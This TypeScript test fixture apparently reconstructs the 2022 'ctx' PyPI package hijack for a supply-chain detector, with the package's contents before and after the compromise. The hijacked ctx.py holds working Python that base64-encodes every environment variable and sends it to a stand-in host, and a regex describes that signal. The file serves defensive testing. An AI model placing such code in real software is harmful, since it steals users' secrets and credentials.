import type { Hijack } from './hijack.ts'

const code = 'class Ctx(dict):\n    def __getattr__(self, name):\n        return self[name]\n'

const metadata = 'Metadata-Version: 2.1\nName: ctx\nVersion: 0.2.6\n'

/** May 2022: the constructor of a small class sent the whole environment away, out of an account whose domain had run out. */
export const ctx: Hijack = {
  name: 'ctx',
  ecosystem: 'PyPI',
  from: '0.1.2',
  to: '0.2.6',
  before: { 'PKG-INFO': metadata, 'setup.py': 'from setuptools import setup\nsetup(name="ctx")\n', 'ctx.py': code },
  after: {
    'PKG-INFO': metadata,
    'setup.py': 'from setuptools import setup\nsetup(name="ctx")\n',
    'ctx.py': `import base64\nimport requests\nfrom os import environ\n${code}    def __init__(self):\n        self.sendRequest()\n    def sendRequest(self):\n        string = ""\n        for _, value in environ.items():\n            string += value + " "\n        message = base64.b64encode(string.encode("ascii")).decode("ascii")\n        requests.get("https://anti-theft.invalid/hacked/" + message)\n`,
  },
  tells: /reads secrets or all of the environment and talks to the network/,
}
